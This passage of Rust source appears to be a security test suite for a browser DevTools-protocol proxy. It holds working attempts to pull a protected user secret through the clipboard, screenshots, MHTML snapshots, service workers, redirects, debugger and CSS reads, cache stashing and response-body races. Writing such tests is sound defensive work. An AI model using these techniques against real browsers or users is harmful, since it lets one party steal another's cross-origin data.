        "(() => { const r = document.createRange(); r.selectNodeContents(document.getElementById('secret')); getSelection().removeAllRanges(); getSelection().addRange(r); return document.execCommand('copy'); })()",
    )?;
    if copied != json!(true) {
        return Err(Stop::Setup(format!("the user's copy: {copied}")));
    }
    let (_, s) = client_page(ctx, None)?;
    let _ = ctx.send(
        "Browser.grantPermissions",
        json!({"origin": "http://ordinary.test", "permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"]}),
        None,
    );
    let _ = ctx.send(
        "Emulation.setFocusEmulationEnabled",
        json!({"enabled": true}),
        Some(&s),
    );
    let read = ctx
        .eval(
            &s,
            "navigator.clipboard.readText().catch((e) => 'failed ' + e)",
        )
        .unwrap_or_default();
    let mut text = read.as_str().unwrap_or_default().to_string();
    if !text.contains(ctx.secret()) {
        // The editing command reads it too.
        click(ctx, &s, 100.0, 340.0)?;
        commands(ctx, &s, &["paste"])?;
        let v = ctx.eval(&s, "document.getElementById('ta').value")?;
        text.push(' ');
        text.push_str(v.as_str().unwrap_or_default());
    }
    ctx.holds_secret("the clipboard", &text)
}

fn clipboard_ctrl_v(ctx: &Ctx) -> Res {
    clipboard_with(
        ctx,
        Clip::Keys(
            json!({"key": "v", "code": "KeyV", "windowsVirtualKeyCode": 86, "modifiers": 2}),
        ),
    )
}

fn clipboard_shift_insert(ctx: &Ctx) -> Res {
    clipboard_with(
        ctx,
        Clip::Keys(
            json!({"key": "Insert", "code": "Insert", "windowsVirtualKeyCode": 45, "modifiers": 8}),
        ),
    )
}

fn clipboard_paste_key(ctx: &Ctx) -> Res {
    clipboard_with(ctx, Clip::Keys(json!({"key": "Paste", "code": "Paste"})))
}

fn clipboard_grant(ctx: &Ctx) -> Res {
    clipboard_with(ctx, Clip::Grant(false))
}

fn clipboard_own_context(ctx: &Ctx) -> Res {
    clipboard_with(ctx, Clip::Grant(true))
}

fn clipboard_set_permission(ctx: &Ctx) -> Res {
    clipboard_with(ctx, Clip::Permission(json!({"name": "clipboard-read"})))
}

fn clipboard_unsanitized_write(ctx: &Ctx) -> Res {
    clipboard_with(
        ctx,
        Clip::Permission(json!({"name": "clipboard-write", "allowWithoutSanitization": true})),
    )
}

/// How the client's page reads the clipboard (c7.clipboard-*).
enum Clip {
    /// A key press (these fields) into the page's focused text area.
    Keys(Value),
    /// `Browser.grantPermissions` `clipboardReadWrite` to the page's origin (in a browser
    /// context of the client's own when true), then `navigator.clipboard.readText()`.
    Grant(bool),
    /// `Browser.setPermission` of this descriptor, granted, then `readText()`.
    Permission(Value),
}

/// The user copies the vault's secret in their tab; the client's page, on a secure origin (a
/// loopback address: the clipboard API needs one), reads the clipboard by `how`.
fn clipboard_with(ctx: &Ctx, how: Clip) -> Res {
    let tab = ctx.user_open(&ctx.vault("/app"))?;
    let copied = ctx.user_eval(
        &tab,
        "(() => { const r = document.createRange(); r.selectNodeContents(document.getElementById('secret')); getSelection().removeAllRanges(); getSelection().addRange(r); return document.execCommand('copy'); })()",
    )?;
    if copied != json!(true) {
        return Err(Stop::Setup(format!("the user's copy: {copied}")));
    }
    let origin = format!("http://127.0.0.1:{}", ctx.app().port());
    let url = format!("{origin}/page?t={}", ctx.tag);
    let mut context = Value::Null;
    let result = (|| {
        let target = if matches!(how, Clip::Grant(true)) {
            let c = ctx.send("Target.createBrowserContext", json!({}), None)?;
            context = c["browserContextId"].clone();
            ctx.send(
                "Target.createTarget",
                json!({"url": url, "browserContextId": context}),
                None,
            )?
        } else {
            ctx.send("Target.createTarget", json!({"url": url}), None)?
        };
        let s = ctx.attach(target["targetId"].as_str().unwrap_or_default())?;
        ctx.wait_true(
            &s,
            &format!(
                "location.href === {} && document.readyState === 'complete'",
                json!(url)
            ),
            5000,
        )?;
        ctx.send(
            "Emulation.setFocusEmulationEnabled",
            json!({"enabled": true}),
            Some(&s),
        )?;
        let read = "navigator.clipboard.readText().catch((e) => 'failed ' + e)";
        let text = match &how {
            Clip::Keys(keys) => {
                click(ctx, &s, 100.0, 340.0)?;
                let mut down = keys.clone();
                down["type"] = json!("rawKeyDown");
                ctx.send("Input.dispatchKeyEvent", down, Some(&s))?;
                let mut up = keys.clone();
                up["type"] = json!("keyUp");
                ctx.send("Input.dispatchKeyEvent", up, Some(&s))?;
                sleep(200);
                ctx.eval(&s, "document.getElementById('ta').value")?
            }
            Clip::Grant(_) => {
                let mut p = json!({"origin": origin, "permissions": ["clipboardReadWrite"]});
                if !context.is_null() {
                    p["browserContextId"] = context.clone();
                }
                ctx.send("Browser.grantPermissions", p, None)?;
                ctx.eval(&s, read)?
            }
            Clip::Permission(d) => {
                ctx.send(
                    "Browser.setPermission",
                    json!({"origin": origin, "permission": d, "setting": "granted"}),
                    None,
                )?;
                ctx.eval(&s, read)?
            }
        };
        ctx.holds_secret("the clipboard", text.as_str().unwrap_or_default())
    })();
    if context.is_null() {
        let _ = ctx.obs().send("Browser.resetPermissions", json!({}), None);
    } else {
        let _ = ctx.obs().send(
            "Target.disposeBrowserContext",
            json!({"browserContextId": context}),
            None,
        );
    }
    result
}

fn auto_attach_off(ctx: &Ctx) -> Res {
    let (_, s) = client_page(ctx, Some("http://plain.example/page?t=x"))?;
    for params in [
        json!({"autoAttach": false, "waitForDebuggerOnStart": false}),
        json!({"autoAttach": true, "waitForDebuggerOnStart": false, "flatten": true, "filter": [{"type": "iframe", "exclude": true}]}),
    ] {
        let _ = ctx.send("Target.setAutoAttach", params, Some(&s));
    }
    ctx.eval(
        &s,
        &format!(
            "document.getElementById('f').src = {}; true",
            json!(ctx.vault("/app"))
        ),
    )?;
    if !ctx.app_loaded(&ctx.tag, 5000) {
        return Err(Stop::Failed("the vault frame never loaded".into()));
    }
    sleep(500);
    let r = ctx.send("Page.captureSnapshot", json!({"format": "mhtml"}), Some(&s))?;
    ctx.holds_secret(
        "Page.captureSnapshot",
        r["data"].as_str().unwrap_or_default(),
    )
}

// ---- session 8: protected content the client's own ordinary page loads ----

/// Where the suite's secret image sits in a page: the top left, at its natural size (6×1).
const AT_ORIGIN: &str = "position:absolute;left:0;top:0";

/// The extra origin's image that only its user gets (`/secret.bmp`, whose pixels spell the
/// secret with the user's `session` cookie).
fn secret_bmp(ctx: &Ctx) -> String {
    ctx.url(super::EXTRA_ORIGIN, "/secret.bmp")
}

/// The user visits the extra origin's app: its `session` cookie (no `SameSite`, so Lax) goes
/// with every request from a page same-site with it, `other.client.example` among them.
fn user_visits_extra_origin(ctx: &Ctx) -> Result<(), Stop> {
    ctx.user_open(&ctx.url(super::EXTRA_ORIGIN, "/app"))?;
    Ok(())
}

/// The client's ordinary page on `other.client.example` (same site as the extra origin), once
/// complete, then `html` written into it by its own script (after the client's attach): the
/// session.
fn same_site_page_showing(ctx: &Ctx, html: &str) -> Result<String, Stop> {
    user_visits_extra_origin(ctx)?;
    let url = ctx.url("http://other.client.example", "/page");
    let (_, s) = ctx.open(&url)?;
    // Its initial empty document is complete too: wait for the page itself.
    ctx.wait_true(
        &s,
        &format!(
            "location.href === {} && document.readyState === 'complete'",
            json!(url)
        ),
        10_000,
    )?;
    if !html.is_empty() {
        ctx.eval(&s, &show_js(html))?;
    }
    Ok(s)
}

/// A script that writes `html` into the page and waits (at most 4 s) until the page's
/// resource timing lists the secret image (or the redirect to it) loaded, then 400 ms for it
/// to paint (a load the interception failed may list nothing: then it just waits).
fn show_js(html: &str) -> String {
    format!(
        "new Promise((r) => {{ document.body.insertAdjacentHTML('beforeend', {}); const t0 = Date.now(); const tick = () => {{ const done = performance.getEntriesByType('resource').some((e) => e.name.includes('secret.bmp') || e.name.includes('swimg.bmp') || e.name.includes('/hop?')); if (done || Date.now() - t0 > 4000) setTimeout(() => r(done), 400); else setTimeout(tick, 50); }}; tick(); }})",
        json!(html)
    )
}

/// The judge reads the pixels (0..6, 0) of a PNG the client got, in a page of its own (a
/// `data:` image does not taint a canvas): their bytes in the BMP's order (blue, green, red).
fn top_left_pixels(ctx: &Ctx, png: &str) -> Result<Vec<u8>, Stop> {
    let t = ctx
        .obs()
        .send("Target.createTarget", json!({"url": "about:blank"}), None)
        .map_err(|e| super::setup("the judge's page", e))?;
    let id = t["targetId"].as_str().unwrap_or_default().to_string();
    let script = format!(
        "new Promise((r) => {{ const i = new Image(); i.onload = () => {{ const c = document.createElement('canvas'); c.width = i.width; c.height = i.height; const g = c.getContext('2d'); g.drawImage(i, 0, 0); const out = []; for (let x = 0; x < 6; x++) {{ const d = g.getImageData(x, 0, 1, 1).data; out.push(d[2], d[1], d[0]); }} r(out); }}; i.onerror = () => r([]); i.src = 'data:image/png;base64,' + {}; }})",
        json!(png)
    );
    let v = ctx.user_eval(&id, &script);
    let _ = ctx
        .obs()
        .send("Target.closeTarget", json!({"targetId": id}), None);
    Ok(v?
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|b| b.as_u64().and_then(|b| u8::try_from(b).ok()))
                .collect()
        })
        .unwrap_or_default())
}

/// Evidence that a PNG capture the client got shows the secret image at the top left.
fn png_spells_secret(ctx: &Ctx, what: &str, png: &str) -> Res {
    let px = top_left_pixels(ctx, png)?;
    ctx.holds_secret(what, &String::from_utf8_lossy(&px))
}

/// The client's screenshot of its page `s`, judged by its top left pixels.
fn screenshot_spells_secret(ctx: &Ctx, s: &str) -> Res {
    let r = ctx.send("Page.captureScreenshot", json!({"format": "png"}), Some(s))?;
    png_spells_secret(
        ctx,
        "the pixels of Page.captureScreenshot",
        r["data"].as_str().unwrap_or_default(),
    )
}

/// The base64 parts of an MHTML snapshot, decoded.
fn mhtml_parts(mhtml: &str) -> String {
    let mut text = String::new();
    for part in mhtml.split("------MultipartBoundary") {
        if !part.contains("Content-Transfer-Encoding: base64") {
            continue;
        }
        if let Some((_, body)) = part.split_once("\r\n\r\n") {
            text.push_str(&String::from_utf8_lossy(&b64decode(body)));
        }
    }
    text
}

fn image_screenshot(ctx: &Ctx) -> Res {
    let s = same_site_page_showing(
        ctx,
        &format!(r#"<img src="{}" style="{AT_ORIGIN}">"#, secret_bmp(ctx)),
    )?;
    screenshot_spells_secret(ctx, &s)
}

/// The client's same-site page (after the client attached) registers a service worker of its
/// own that answers `/swimg.bmp` with the extra origin's image fetched `no-cors`, waits until
/// the worker controls it, then shows `/swimg.bmp`: no request of the page names the protected
/// URL, the worker's does.
fn image_sw_opaque(ctx: &Ctx) -> Res {
    let s = same_site_page_showing(ctx, "")?;
    let register = format!(
        "Promise.race([navigator.serviceWorker.register('/client-sw.js?img=' + encodeURIComponent({})).then(() => navigator.serviceWorker.ready).then(() => new Promise((r) => {{ if (navigator.serviceWorker.controller) r(true); else navigator.serviceWorker.addEventListener('controllerchange', () => r(true)); }})), new Promise((r) => setTimeout(() => r(false), 5000))])",
        json!(secret_bmp(ctx))
    );
    if ctx.eval(&s, &register)? != json!(true) {
        return Err(Stop::Setup(
            "the page's own service worker never controlled it".into(),
        ));
    }
    ctx.eval(
        &s,
        &show_js(&format!(r#"<img src="/swimg.bmp" style="{AT_ORIGIN}">"#)),
    )?;
    screenshot_spells_secret(ctx, &s)
}

fn image_mhtml(ctx: &Ctx) -> Res {
    let s = same_site_page_showing(
        ctx,
        &format!(r#"<img src="{}" style="{AT_ORIGIN}">"#, secret_bmp(ctx)),
    )?;
    let r = ctx.send("Page.captureSnapshot", json!({"format": "mhtml"}), Some(&s))?;
    ctx.holds_secret(
        "the image parts of Page.captureSnapshot",
        &mhtml_parts(r["data"].as_str().unwrap_or_default()),
    )
}

fn image_object(ctx: &Ctx) -> Res {
    let s = same_site_page_showing(
        ctx,
        &format!(
            r#"<object data="{}" type="image/bmp" style="{AT_ORIGIN}"></object>"#,
            secret_bmp(ctx)
        ),
    )?;
    screenshot_spells_secret(ctx, &s)
}

fn image_css(ctx: &Ctx) -> Res {
    let s = same_site_page_showing(
        ctx,
        &format!(
            r#"<div style="{AT_ORIGIN};width:6px;height:1px;background:url({}) no-repeat"></div>"#,
            secret_bmp(ctx)
        ),
    )?;
    screenshot_spells_secret(ctx, &s)
}

fn image_hop(ctx: &Ctx) -> Res {
    let hop = format!(
        "http://ordinary.test/hop?t={}&to={}",
        ctx.tag,
        encode(&secret_bmp(ctx))
    );
    let s = same_site_page_showing(ctx, &format!(r#"<img src="{hop}" style="{AT_ORIGIN}">"#))?;
    screenshot_spells_secret(ctx, &s)
}

fn image_screencast(ctx: &Ctx) -> Res {
    let s = same_site_page_showing(ctx, "")?;
    let from = ctx.c.event_count();
    ctx.send(
        "Page.startScreencast",
        json!({"format": "png", "everyNthFrame": 1}),
        Some(&s),
    )?;
    ctx.eval(
        &s,
        &show_js(&format!(
            r#"<img src="{}" style="{AT_ORIGIN}">"#,
            secret_bmp(ctx)
        )),
    )?;
    let deadline = std::time::Instant::now() + Duration::from_secs(4);
    let mut next = from;
    let mut last = Err(Stop::Failed("no screencast frame".into()));
    while std::time::Instant::now() < deadline {
        let Some((i, e)) = ctx.c.wait_event(
            next,
            &|e| e.method == "Page.screencastFrame",
            Duration::from_millis(500),
        ) else {
            continue;
        };
        next = i + 1;
        let _ = ctx.c.send(
            "Page.screencastFrameAck",
            json!({"sessionId": e.params["sessionId"]}),
            Some(&s),
        );
        last = png_spells_secret(
            ctx,
            "a Page.screencastFrame's pixels",
            e.params["data"].as_str().unwrap_or_default(),
        );
        if last.is_ok() {
            break;
        }
    }
    last
}

/// The client makes a target on its same-site page already showing `html` and attaches only
/// once the page has loaded `needle` (the app saw the request): the session.
fn attach_after_load(ctx: &Ctx, html: &str, needle: &str) -> Result<String, Stop> {
    user_visits_extra_origin(ctx)?;
    let url = ctx.url(
        "http://other.client.example",
        &format!("/page?html={}", encode(html)),
    );
    let t = ctx.send("Target.createTarget", json!({"url": url}), None)?;
    let id = t["targetId"].as_str().unwrap_or_default().to_string();
    ctx.app()
        .wait(Duration::from_secs(5), |h| {
            h.path() == needle && h.target.contains(&ctx.tag)
        })
        .ok_or_else(|| Stop::Setup(format!("the page never loaded {needle}")))?;
    sleep(600);
    let s = ctx.attach(&id)?;
    ctx.wait_true(
        &s,
        "location.pathname === '/page' && document.readyState === 'complete'",
        10_000,
    )?;
    Ok(s)
}

fn image_before_attach(ctx: &Ctx) -> Res {
    let html = format!(r#"<img src="{}" style="{AT_ORIGIN}">"#, secret_bmp(ctx));
    let s = attach_after_load(ctx, &html, "/secret.bmp")?;
    screenshot_spells_secret(ctx, &s)
}

fn image_mhtml_before_attach(ctx: &Ctx) -> Res {
    let html = format!(r#"<img src="{}" style="{AT_ORIGIN}">"#, secret_bmp(ctx));
    let s = attach_after_load(ctx, &html, "/secret.bmp")?;
    let r = ctx.send("Page.captureSnapshot", json!({"format": "mhtml"}), Some(&s))?;
    ctx.holds_secret(
        "the image parts of Page.captureSnapshot",
        &mhtml_parts(r["data"].as_str().unwrap_or_default()),
    )
}

/// An ordinary redirect to the vault's script.
fn hop_to_vault_script(ctx: &Ctx) -> String {
    format!(
        "http://ordinary.test/hop?t={}&to={}",
        ctx.tag,
        encode(&ctx.vault("/secret.js"))
    )
}

/// The client's ordinary page runs the vault's script through an ordinary redirect (after
/// `before`): the session.
fn page_with_hopped_script(
    ctx: &Ctx,
    before: &dyn Fn(&str) -> Result<(), Stop>,
) -> Result<String, Stop> {
    let (_, s) = client_page(ctx, None)?;
    before(&s)?;
    ctx.eval(
        &s,
        &format!(
            "new Promise((r) => {{ const e = document.createElement('script'); e.src = {}; e.onload = () => r(true); e.onerror = () => r(false); document.head.append(e); }})",
            json!(hop_to_vault_script(ctx))
        ),
    )?;
    Ok(s)
}

/// `Debugger.getScriptSource` of every script `Debugger.scriptParsed` showed since `from`
/// whose URL contains `needle`: their text.
fn sources_of(ctx: &Ctx, s: &str, from: usize, needle: &str) -> Result<String, Stop> {
    sleep(300);
    let mut text = String::new();
    let mut seen = 0;
    for e in ctx.events(from) {
        if e.method != "Debugger.scriptParsed"
            || !e.params["url"].as_str().is_some_and(|u| u.contains(needle))
        {
            continue;
        }
        seen += 1;
        let r = ctx.send(
            "Debugger.getScriptSource",
            json!({"scriptId": e.params["scriptId"]}),
            Some(s),
        )?;
        text.push_str(&r.to_string());
    }
    if seen == 0 {
        return Err(Stop::Failed(format!("no scriptParsed for {needle}")));
    }
    Ok(text)
}

fn debugger_script_hop(ctx: &Ctx) -> Res {
    let from = ctx.c.event_count();
    let s = page_with_hopped_script(ctx, &|s| {
        ctx.send("Debugger.enable", json!({}), Some(s))?;
        Ok(())
    })?;
    let text = sources_of(ctx, &s, from, "/hop?")?;
    ctx.holds_secret("Debugger.getScriptSource", &text)
}

fn resource_content_hop(ctx: &Ctx) -> Res {
    let s = page_with_hopped_script(ctx, &|s| {
        ctx.send("Page.enable", json!({}), Some(s))?;
        Ok(())
    })?;
    let tree = ctx.send("Page.getFrameTree", json!({}), Some(&s))?;
    let r = ctx.send(
        "Page.getResourceContent",
        json!({"frameId": tree["frameTree"]["frame"]["id"], "url": hop_to_vault_script(ctx)}),
        Some(&s),
    )?;
    ctx.holds_secret("Page.getResourceContent", &r.to_string())
}

fn search_resource_hop(ctx: &Ctx) -> Res {
    let s = page_with_hopped_script(ctx, &|s| {
        ctx.send("Page.enable", json!({}), Some(s))?;
        Ok(())
    })?;
    let tree = ctx.send("Page.getFrameTree", json!({}), Some(&s))?;
    let r = ctx.send(
        "Page.searchInResource",
        json!({"frameId": tree["frameTree"]["frame"]["id"], "url": hop_to_vault_script(ctx), "query": "const k"}),
        Some(&s),
    )?;
    ctx.holds_secret("Page.searchInResource", &r.to_string())
}

fn debugger_hop_before_attach(ctx: &Ctx) -> Res {
    let html = format!(r#"<script src="{}"></script>"#, hop_to_vault_script(ctx));
    let s = attach_after_load(ctx, &html, "/secret.js")?;
    let from = ctx.c.event_count();
    ctx.send("Debugger.enable", json!({}), Some(&s))?;
    let text = sources_of(ctx, &s, from, "/hop?")?;
    ctx.holds_secret("Debugger.getScriptSource", &text)
}

fn load_network_resource_hop(ctx: &Ctx) -> Res {
    load_network_resource_of(ctx, &hop_to_vault_script(ctx))
}

fn resource_content_before_attach(ctx: &Ctx) -> Res {
    let html = format!(r#"<script src="{}"></script>"#, hop_to_vault_script(ctx));
    let s = attach_after_load(ctx, &html, "/secret.js")?;
    ctx.send("Page.enable", json!({}), Some(&s))?;
    let tree = ctx.send("Page.getFrameTree", json!({}), Some(&s))?;
    let r = ctx.send(
        "Page.getResourceContent",
        json!({"frameId": tree["frameTree"]["frame"]["id"], "url": hop_to_vault_script(ctx)}),
        Some(&s),
    )?;
    ctx.holds_secret("Page.getResourceContent", &r.to_string())
}

/// The vault stylesheet whose selector holds the secret (`#ta, .never-<secret>`), straight or
/// through an ordinary redirect.
fn vault_selector_css(ctx: &Ctx, hop: bool) -> String {
    let css = ctx.vault("/secret.css?sel=1");
    if hop {
        format!("http://ordinary.test/hop?t={}&to={}", ctx.tag, encode(&css))
    } else {
        css
    }
}

/// The client's page (DOM and CSS enabled) applies the vault stylesheet `href`: the session.
fn page_with_vault_css(ctx: &Ctx, href: &str) -> Result<String, Stop> {
    let (_, s) = client_page(ctx, None)?;
    ctx.send("DOM.enable", json!({}), Some(&s))?;
    ctx.send("CSS.enable", json!({}), Some(&s))?;
    ctx.eval(
        &s,
        &format!(
            "new Promise((r) => {{ const e = document.createElement('link'); e.rel = 'stylesheet'; e.href = {}; e.onload = () => r(true); e.onerror = () => r(false); document.head.append(e); }})",
            json!(href)
        ),
    )?;
    Ok(s)
}

/// `CSS.getMatchedStylesForNode` of the client page's `#ta`, which the vault rule matches.
fn matched_rules_of_ta(ctx: &Ctx, hop: bool) -> Res {
    let s = page_with_vault_css(ctx, &vault_selector_css(ctx, hop))?;
    matched_rules_on(ctx, &s)
}

/// `CSS.getMatchedStylesForNode` of `#ta` in the client's page session `s`.
fn matched_rules_on(ctx: &Ctx, s: &str) -> Res {
    let doc = ctx.send("DOM.getDocument", json!({}), Some(s))?;
    let node = ctx.send(
        "DOM.querySelector",
        json!({"nodeId": doc["root"]["nodeId"], "selector": "#ta"}),
        Some(s),
    )?;
    let r = ctx.send(
        "CSS.getMatchedStylesForNode",
        json!({"nodeId": node["nodeId"]}),
        Some(s),
    )?;
    ctx.holds_secret("CSS.getMatchedStylesForNode", &r.to_string())
}

fn css_matched_rules(ctx: &Ctx) -> Res {
    matched_rules_of_ta(ctx, false)
}

fn css_matched_hop(ctx: &Ctx) -> Res {
    matched_rules_of_ta(ctx, true)
}

/// `Page.captureSnapshot` of the client's page applying the vault stylesheet.
fn snapshot_with_vault_css(ctx: &Ctx, hop: bool) -> Res {
    let s = page_with_vault_css(ctx, &vault_selector_css(ctx, hop))?;
    let r = ctx.send("Page.captureSnapshot", json!({"format": "mhtml"}), Some(&s))?;
    ctx.holds_secret(
        "Page.captureSnapshot",
        r["data"].as_str().unwrap_or_default(),
    )
}

fn css_mhtml(ctx: &Ctx) -> Res {
    snapshot_with_vault_css(ctx, false)
}

fn css_mhtml_hop(ctx: &Ctx) -> Res {
    snapshot_with_vault_css(ctx, true)
}

/// The client's page (DOM and CSS enabled) gets an ordinary `<style>` that `@import`s the
/// vault stylesheet whose selector holds the secret: the session.
fn page_importing_vault_css(ctx: &Ctx) -> Result<String, Stop> {
    let (_, s) = client_page(ctx, None)?;
    ctx.send("DOM.enable", json!({}), Some(&s))?;
    ctx.send("CSS.enable", json!({}), Some(&s))?;
    let css = format!("@import url({});", json!(vault_selector_css(ctx, false)));
    ctx.eval(
        &s,
        &format!(
            "new Promise((r) => {{ const e = document.createElement('style'); e.textContent = {}; document.head.append(e); const t0 = Date.now(); const tick = () => {{ if (getComputedStyle(document.getElementById('ta')).color === 'rgb(255, 0, 0)' || Date.now() - t0 > 3000) r(true); else setTimeout(tick, 50); }}; tick(); }})",
            json!(css)
        ),
    )?;
    Ok(s)
}

fn css_import_matched(ctx: &Ctx) -> Res {
    let s = page_importing_vault_css(ctx)?;
    matched_rules_on(ctx, &s)
}

fn css_import_mhtml(ctx: &Ctx) -> Res {
    let s = page_importing_vault_css(ctx)?;
    let r = ctx.send("Page.captureSnapshot", json!({"format": "mhtml"}), Some(&s))?;
    ctx.holds_secret(
        "Page.captureSnapshot",
        r["data"].as_str().unwrap_or_default(),
    )
}

fn worker_import_hop(ctx: &Ctx) -> Res {
    let (_, s) = client_page(ctx, None)?;
    let from = ctx.c.event_count();
    ctx.send(
        "Target.setAutoAttach",
        json!({"autoAttach": true, "waitForDebuggerOnStart": true, "flatten": true}),
        Some(&s),
    )?;
    let inner = format!(
        "onmessage = () => {{ try {{ importScripts({}); postMessage(true); }} catch (e) {{ postMessage(String(e)); }} }};",
        json!(hop_to_vault_script(ctx))
    );
    let ws = blob_worker(ctx, &s, from, &inner)?;
    let from = ctx.c.event_count();
    ctx.send("Debugger.enable", json!({}), Some(&ws))?;
    ctx.send("Runtime.runIfWaitingForDebugger", json!({}), Some(&ws))?;
    ctx.eval(
        &s,
        "new Promise((r) => { w.onmessage = (e) => r(e.data); w.postMessage(1); setTimeout(() => r(false), 3000); })",
    )?;
    let text = sources_of(ctx, &ws, from, "/hop?")?;
    ctx.holds_secret("Debugger.getScriptSource", &text)
}

fn cache_opaque_stash(ctx: &Ctx) -> Res {
    let (_, s) = client_page(ctx, None)?;
    ctx.eval(
        &s,
        &format!(
            "(async () => {{ const r = await fetch({}, {{mode: 'no-cors'}}); const c = await caches.open('stash'); await c.put('/stash', r); return r.type; }})()",
            json!(ctx.vault("/secret.js"))
        ),
    )?;
    let names = ctx.send(
        "CacheStorage.requestCacheNames",
        json!({"securityOrigin": "http://ordinary.test"}),
        Some(&s),
    )?;
    let cache = names["caches"]
        .as_array()
        .and_then(|cs| cs.iter().find(|c| c["cacheName"] == "stash"))
        .map(|c| c["cacheId"].clone())
        .ok_or_else(|| Stop::Failed("no stash cache listed".into()))?;
    let r = ctx.send(
        "CacheStorage.requestCachedResponse",
        json!({"cacheId": cache, "requestURL": "http://ordinary.test/stash", "requestHeaders": []}),
        Some(&s),
    )?;
    let body = b64decode(r["response"]["body"].as_str().unwrap_or_default());
    ctx.holds_secret(
        "CacheStorage.requestCachedResponse",
        &String::from_utf8_lossy(&body),
    )
}

fn image_prerender(ctx: &Ctx) -> Res {
    let s = same_site_page_showing(ctx, "")?;
    let html = format!(r#"<img src="{}" style="{AT_ORIGIN}">"#, secret_bmp(ctx));
    let next = ctx.url(
        "http://other.client.example",
        &format!("/page?prerendered=1&html={}", encode(&html)),
    );
    ctx.eval(
        &s,
        &format!(
            "(() => {{ const e = document.createElement('script'); e.type = 'speculationrules'; e.textContent = JSON.stringify({{prerender: [{{source: 'list', urls: [{}]}}]}}); document.head.append(e); return true; }})()",
            json!(next)
        ),
    )?;
    ctx.app()
        .wait(Duration::from_secs(5), |h| {
            h.target.contains("prerendered=1") && h.target.contains(&ctx.tag)
        })
        .ok_or_else(|| Stop::Setup("the page was never prerendered".into()))?;
    sleep(1000);
    let _ = ctx.eval_quick(&s, &format!("location.href = {}; true", json!(next)), 2000);
    let deadline = std::time::Instant::now() + Duration::from_secs(5);
    let mut last = Err(Stop::Failed("never captured".into()));
    while std::time::Instant::now() < deadline {
        sleep(500);
        last = screenshot_spells_secret(ctx, &s);
        if last.is_ok() {
            break;
        }
    }
    last
}

fn response_body_race(ctx: &Ctx) -> Res {
    let (_, s) = client_page(ctx, None)?;
    ctx.send("Network.enable", json!({}), Some(&s))?;
    let hop = format!(
        "http://ordinary.test/hop?t={}&ms=400&to={}",
        ctx.tag,
        encode(&ctx.vault("/secret.js"))
    );
    let from = ctx.c.event_count();
    ctx.eval(
        &s,
        &format!("fetch({}, {{mode: 'no-cors'}}); true", json!(hop)),
    )?;
    let (_, e) = ctx
        .c
        .wait_event(
            from,
            &|e| {
                e.method == "Network.requestWillBeSent"
                    && e.params["request"]["url"]
                        .as_str()
                        .is_some_and(|u| u.contains("/hop?") && u.contains(&ctx.tag))
            },
            Duration::from_secs(3),
        )
        .ok_or_else(|| Stop::Failed("no requestWillBeSent for the redirect".into()))?;
    let rid = e.params["requestId"].clone();
    let got = std::sync::Mutex::new(String::new());
    let deadline = std::time::Instant::now() + Duration::from_millis(1500);
    std::thread::scope(|scope| {
        for k in 0..4 {
            let (rid, got, s) = (&rid, &got, &s);
            scope.spawn(move || {
                let method = if k % 2 == 0 {
                    "Network.getResponseBody"
                } else {
                    "Network.streamResourceContent"
                };
                while std::time::Instant::now() < deadline {
                    if let Ok(r) = ctx.c.send_timeout(
                        method,
                        json!({"requestId": rid}),
                        Some(s),
                        Duration::from_millis(500),
                    ) {
                        let text = if r["base64Encoded"] == json!(true) {
                            String::from_utf8_lossy(&b64decode(
                                r["body"].as_str().unwrap_or_default(),
                            ))
                            .into_owned()
                        } else {
                            r.to_string()
                        };
                        let streamed = String::from_utf8_lossy(&b64decode(
                            r["bufferedData"].as_str().unwrap_or_default(),
                        ))
                        .into_owned();
                        if let Ok(mut g) = got.lock() {
                            g.push_str(&text);
                            g.push_str(&streamed);
                        }
                    }
                }
            });
        }
    });
    // Data the streaming sent as events since.
    let mut text = got.into_inner().unwrap_or_default();
    for e in ctx.events(from) {
        if e.method == "Network.dataReceived" {
            text.push_str(&String::from_utf8_lossy(&b64decode(
                e.params["data"].as_str().unwrap_or_default(),
            )));
        }
    }
    ctx.holds_secret("the racing Network reads", &text)
}

// ---- session 8, helper commits: documents committing, the proxy's surfaces ----

/// The user's vault tab opens its titled `about:blank` popup, then `leave` happens to the
/// vault tab (it goes to an ordinary page, or is closed): the popup's id.
fn popup_then_opener(ctx: &Ctx, close: bool) -> Result<String, Stop> {
    let tab = vault_popup_opened(ctx)?;
    let popup = ctx
        .user_targets()
        .into_iter()
        .find(|t| t["openerId"] == json!(tab))
        .and_then(|t| t["targetId"].as_str().map(String::from))
        .ok_or_else(|| Stop::Setup("no popup".into()))?;
    if close {
        ctx.obs()
            .send("Target.closeTarget", json!({"targetId": tab}), None)
            .map_err(|e| super::setup("closing the vault tab", e))?;
    } else {
        let to = ctx.url("http://ordinary.test", "/page");
        ctx.user_eval(&tab, &format!("location.href = {}", json!(to)))?;
        ctx.user_wait_loaded(&tab, &to)?;
    }
    sleep(300);
    Ok(popup)
}

/// A second client connection (made now, after what the attack set up).
fn late_client(ctx: &Ctx) -> Result<slicc_browsers::harness::cdp::CdpClient, Stop> {
    slicc_browsers::harness::cdp::CdpClient::connect(
        &ctx.leg.client_ws(),
        slicc_browsers::harness::cdp::CdpOptions::new().call_timeout(Duration::from_secs(6)),
    )
    .map_err(|e| Stop::Setup(format!("the late client cannot connect: {e}")))
}

fn json_list_opener_left(ctx: &Ctx) -> Res {
    popup_then_opener(ctx, false)?;
    let (status, body) = ctx.client_get("/json/list");
    if status != 200 {
        return Err(Stop::Failed(format!("/json/list answered {status}")));
    }
    ctx.holds_secret("/json/list", &body)
}

fn json_list_opener_closed(ctx: &Ctx) -> Res {
    popup_then_opener(ctx, true)?;
    let (status, body) = ctx.client_get("/json/list");
    if status != 200 {
        return Err(Stop::Failed(format!("/json/list answered {status}")));
    }
    ctx.holds_secret("/json/list", &body)
}

fn get_targets_opener_left(ctx: &Ctx) -> Res {
    popup_then_opener(ctx, false)?;
    let c = late_client(ctx)?;
    let r = c.send("Target.getTargets", json!({}), None);
    c.close();
    let r = r.map_err(|e| super::failed("Target.getTargets", e))?;
    ctx.holds_secret("Target.getTargets", &r.to_string())
}

fn attach_popup_opener_left(ctx: &Ctx) -> Res {
    let popup = popup_then_opener(ctx, false)?;
    let c = late_client(ctx)?;
    let run = || -> Result<Value, Stop> {
        let r = c
            .send(
                "Target.attachToTarget",
                json!({"targetId": popup, "flatten": true}),
                None,
            )
            .map_err(|e| super::failed("Target.attachToTarget", e))?;
        let s = r["sessionId"].as_str().unwrap_or_default().to_string();
        let r = c
            .send(
                "Runtime.evaluate",
